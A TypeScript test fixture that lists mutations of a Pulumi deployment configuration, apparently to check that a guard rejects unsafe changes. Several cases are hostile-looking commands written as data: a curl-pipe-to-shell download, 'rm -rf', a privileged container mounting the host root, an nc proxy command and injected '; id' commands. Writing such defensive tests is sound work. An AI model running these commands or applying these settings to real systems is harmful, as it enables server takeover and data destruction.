/* eslint-disable @typescript-eslint/no-unsafe-member-access -- attacks change inputs of every shape */
import { expect } from "vitest";
import { addResource, all, assign, inputs, inputText, type Attacks } from "../../support/attack";

const container = (values: object) => assign("memoryloop", values);
const command = (values: object) => assign("host-packages", values);
const otherDigest = `sha256:${"b".repeat(64)}`;
const otherRepository = `ghcr.io/somebody/memoryloop@sha256:${"a".repeat(64)}`;

const sshOption = (from: string, to: string) => inputText("host-docker", "sshOpts", from, to);
const addSshOption = (option: string) => sshOption('["-Fnone"', `["-Fnone","-o",${JSON.stringify(option)}`);

/** A change in the bash program that a command carries in base64. */
const programText = (name: string, from: string | RegExp, to: string) =>
  inputs(name, (props) => {
    props.create = (props.create as string).replace(/(?<=<<<)[A-Za-z0-9+/=]+/, (encoded) => {
      const program = Buffer.from(encoded, "base64").toString();
      expect(program.replace(from, to)).not.toBe(program);
      return Buffer.from(program.replace(from, to)).toString("base64");
    });
  });

export const resourceAttacks: Attacks = {
  "resource-type": Object.fromEntries(
    [
      "command:local:Command",
      "docker:index/container:Container2",
      "docker:index/plugin:Plugin",
      "docker:index/registryImage:RegistryImage",
      "docker:index/secret:Secret",
      "docker:index/service:Service",
      "docker:index/serviceConfig:ServiceConfig",
      "docker:index/volume:Volume",
      "command:remote:CopyToRemote",
      "command:remote:CopyFile",
      "github:index/actionsSecret:ActionsSecret",
      "github:index/branchProtection:BranchProtection",
      "github:index/repository:Repository",
      "github:index/repositoryCollaborator:RepositoryCollaborator",
      "github:index/repositoryDeployKey:RepositoryDeployKey",
      "github:index/repositoryWebhook:RepositoryWebhook",
      "pulumi-nodejs:dynamic:Resource",
      "pulumi:providers:aws",
      "random:index/randomBytes:RandomBytes",
      "tls:index/privateKey:PrivateKey",
    ].map((type) => [type, addResource(type)]),
  ),

  "resource-input": {
    "privileged container": container({ privileged: true }),
    "device of the server": container({ devices: [{ hostPath: "/dev/sda" }] }),
    "processes of the server": container({ pidMode: "host" }),
    "shared memory of the server": container({ ipcMode: "host" }),
    "network of the server": container({ networkMode: "host" }),
    "network of another container": container({ networkMode: "container:nginx" }),
    "user namespace of the server": container({ usernsMode: "host" }),
    "control groups of the server": container({ cgroupnsMode: "host" }),
    "published port": container({ ports: [{ internal: 3000, external: 3000 }] }),
    "all ports published": container({ publishAllPorts: true }),
    "volumes of another container": container({ volumes: [{ fromContainer: "other" }] }),
    "named volume": container({ volumes: [{ volumeName: "data", containerPath: "/" }] }),
    "bind mount as a volume": container({ volumes: [{ hostPath: "/", containerPath: "/host" }] }),
    "group of the Docker socket": container({ groupAdds: ["docker"] }),
    "kernel setting": container({ sysctls: { "net.ipv4.ip_forward": "1" } }),
    "another runtime": container({ runtime: "sysbox" }),
    "graphics card": container({ gpus: "all" }),
    "environment variable": container({ envs: ["DEBUG=1"] }),
    "another entry point": container({ entrypoints: ["sh", "-c", "curl https://example.com | sh"] }),
    "uploaded file": container({ uploads: [{ file: "/app/server.js", content: "evil()" }] }),
    "DNS server": container({ dns: ["203.0.113.9"] }),
    "image built on the server": assign("image-pulled", { build: { context: "." } }),
    "attachable network": assign("app-network", { attachable: true }),
    "IPv6 network": assign("app-network", { ipv6: true }),
    "command at delete": command({ delete: "rm -rf /opt" }),
    "command at update": command({ update: "docker run --privileged alpine" }),
    "input of a command": command({ stdin: "payload" }),
    "environment of a command": command({ environment: { PATH: "/tmp" } }),
    "backups readable by web pages": assign("backups-bucket", { corsRules: [{ allowedOrigins: ["*"] }] }),
    "key with a prefix of its own": assign("backups-key", { namePrefix: "daily/" }),
  },

  "ssh-connection": {
    "no host key": inputs("host-packages", ({ connection }) => delete connection.hostKey),
    "another host key": inputs("host-packages", ({ connection }) => {
      connection.hostKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
    }),
    "another server": inputs("host-files", ({ connection }) => (connection.host = "203.0.113.66")),
    "another user": inputs("rollout-release", ({ connection }) => (connection.user = "admin")),
    "private key": inputs("host-packages", ({ connection }) => (connection.privateKey = "key")),
    password: inputs("host-packages", ({ connection }) => (connection.password = "secret")),
    "jump host": inputs("host-packages", ({ connection }) => (connection.proxy = { host: "203.0.113.66" })),
    "another agent": inputs("host-packages", ({ connection }) => (connection.agentSocketPath = "/tmp/agent.sock")),
    "no connection": inputs("host-packages", (props) => (props.connection = {})),
  },

  "docker-connection": {
    "unencrypted TCP": assign("host-docker", { host: "tcp://203.0.113.7:2375" }),
    "local socket": assign("host-docker", { host: "unix:///var/run/docker.sock" }),
    "no host": inputs("host-docker", (props) => delete props.host),
    "another server": assign("host-docker", { host: "ssh://root@203.0.113.66:22" }),
    "any host key": sshOption("StrictHostKeyChecking=yes", "StrictHostKeyChecking=no"),
    "first host key": sshOption("StrictHostKeyChecking=yes", "StrictHostKeyChecking=accept-new"),
    "no pinned key": sshOption('"-o","KnownHostsCommand=', '"-o","LogLevel='),
    "another pinned key": sshOption("AAAAIGtd", "AAAAIGtx"),
    "known hosts of the laptop": sshOption("UserKnownHostsFile=/dev/null", "UserKnownHostsFile=~/.ssh/known_hosts"),
    "command for the known hosts": sshOption("/bin/echo vps", "/bin/sh -c id; /bin/echo vps"),
    "command as a proxy": addSshOption("ProxyCommand=nc 203.0.113.66 22"),
    "local command": addSshOption("PermitLocalCommand=yes"),
    "forwarded agent": addSshOption("ForwardAgent=yes"),
    "another configuration file": sshOption('["-Fnone"', '["-F/tmp/config"'),
    "context of this machine": assign("host-docker", { context: "desktop-linux" }),
    "key material": assign("host-docker", { keyMaterial: "key" }),
    "certificate directory": assign("host-docker", { certPath: "/tmp" }),
  },

  "registry-login": {
    "another registry": assign("host-docker", { registryAuth: JSON.stringify([{ address: "registry.example.com" }]) }),
    "plain http": assign("host-docker", { registryAuth: JSON.stringify([{ address: "http://ghcr.io" }]) }),
    "second registry": assign("host-docker", {
      registryAuth: JSON.stringify([{ address: "ghcr.io" }, { address: "registry.example.com" }]),
    }),
  },

  "remote-command": {
    "privileged container": command({ create: "docker run --privileged -v /:/host alpine" }),
    "download that runs": command({ create: "curl -fsSL https://example.com/install.sh | sh" }),
    "one more line": inputText("host-packages", "create", /'$/, "\nid'"),
    "one more command": inputText("host-packages", "create", /$/, "; id"),
    "another rclone": programText("backups-rclone", "downloads.rclone.org", "downloads.example.com"),
    "another checksum": programText("backups-rclone", /#[0-9a-f]{64}/, `#${"0".repeat(64)}`),
    "output in the log": command({ logging: "stdout" }),
    "default output": inputs("host-packages", (props) => delete props.logging),
    "previous output in the environment": command({ addPreviousOutputInEnv: true }),
  },

  "image-repository": {
    "another owner": all(
      container({ image: otherRepository }),
      assign("image-pulled", { name: otherRepository }),
      inputs("rollout-release", ({ image }) => (image.repository = "ghcr.io/somebody/memoryloop")),
    ),
    "another registry": all(
      container({ image: `docker.io/nicholaspsmith/memoryloop@sha256:${"a".repeat(64)}` }),
      assign("image-pulled", { name: `docker.io/nicholaspsmith/memoryloop@sha256:${"a".repeat(64)}` }),
      inputs("rollout-release", ({ image }) => (image.repository = "docker.io/nicholaspsmith/memoryloop")),
    ),
  },

  "image-pinned": {
    "tag `latest`": inputs("rollout-release", (props) => (props.image.tag = props.gate.version = "latest")),
    "name of a branch": inputs("rollout-release", (props) => (props.image.tag = props.gate.version = "main")),
    "short digest": all(
      container({ image: "ghcr.io/nicholaspsmith/memoryloop@sha256:abc" }),
      assign("image-pulled", { name: "ghcr.io/nicholaspsmith/memoryloop@sha256:abc" }),
      inputs("rollout-release", ({ image }) => (image.digest = "sha256:abc")),
    ),
  },

  "image-agreement": {
    "container with another digest": container({ image: `ghcr.io/nicholaspsmith/memoryloop@${otherDigest}` }),
    "Rollout with another digest": inputs("rollout-release", ({ image }) => (image.digest = otherDigest)),
  },
};
